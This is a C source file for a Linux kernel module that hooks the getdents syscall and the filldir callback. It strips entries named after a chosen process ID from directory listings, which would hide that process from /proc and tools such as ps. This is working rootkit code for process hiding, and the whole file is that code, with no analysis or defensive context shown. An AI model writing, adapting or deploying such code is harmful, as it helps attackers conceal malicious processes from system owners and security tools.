// SPDX-License-Identifier: GPL-2.0
/* Listings without one process: see kernel.h. */
#include "kernel.h"

#include <linux/dirent.h>
#include <linux/kernel.h>
#include <linux/ptrace.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/uaccess.h>

filldir_fn *real_filldir;
syscall_fn *real_getdents;
static char name[12];

void filter_pid(int pid)
{
	snprintf(name, sizeof(name), "%d", pid);
}

bool is_filtered(const char *entry, int len)
{
	return len == strlen(name) && !memcmp(entry, name, len);
}

bool filter_entry(struct dir_context *ctx, const char *entry, int len, loff_t offset, u64 ino,
		  unsigned int type)
{
	return is_filtered(entry, len) || real_filldir(ctx, entry, len, offset, ino, type);
}

static long leave_out(char *entries, long size)
{
	for (long at = 0; at < size;) {
		struct linux_dirent64 *entry = (void *)(entries + at);
		long len = entry->d_reclen;

		if (is_filtered(entry->d_name, strlen(entry->d_name))) {
			memmove(entries + at, entries + at + len, size - at - len);
			size -= len;
		} else {
			at += len;
		}
	}
	return size;
}

long filter_getdents(const struct pt_regs *regs)
{
	void __user *buffer = (void __user *)regs->si;
	long size = real_getdents(regs), left = size;
	char *copy;

	if (size <= 0)
		return size;
	copy = kvmalloc(size, GFP_KERNEL);
	if (copy && !copy_from_user(copy, buffer, size)) {
		left = leave_out(copy, size);
		if (left != size && copy_to_user(buffer, copy, left))
			left = size;
	}
	kvfree(copy);
	return left;
}
